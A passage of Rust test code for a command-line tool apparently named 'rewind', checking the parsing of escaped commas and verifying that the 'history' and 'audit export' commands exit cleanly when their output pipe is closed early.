    assert_eq!(seqs(r"Smith\, Jo,Ann"), vec![1]);
    assert_eq!(seqs(r"Smith,Jo\, Ann"), vec![2]);
    assert_eq!(seqs("Smith, Jo,Ann"), Vec::<u64>::new());
}

/// `rewind history | head -1`, `rewind audit export | head -1`: once the
/// reader of its output is gone, a command ends as it would have, with
/// its own exit code and no error of the pipe.
#[test]
fn a_command_whose_reader_went_away_ends_with_its_own_outcome() {
    let env = populated();
    for args in [&["history"][..], &["audit", "export", "--format", "jsonl"]] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_rewind-child"))
            .envs(rewind_tests::PINNED)
            .arg("--ledger")
            .arg(&env.ledger)
            .args(args)
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // The reader goes before the child has written anything.
        drop(child.stdout.take());
        let output = child.wait_with_output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{args:?}: {output:?}");
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!stderr.contains("error"), "{args:?}: {stderr}");
    }
}
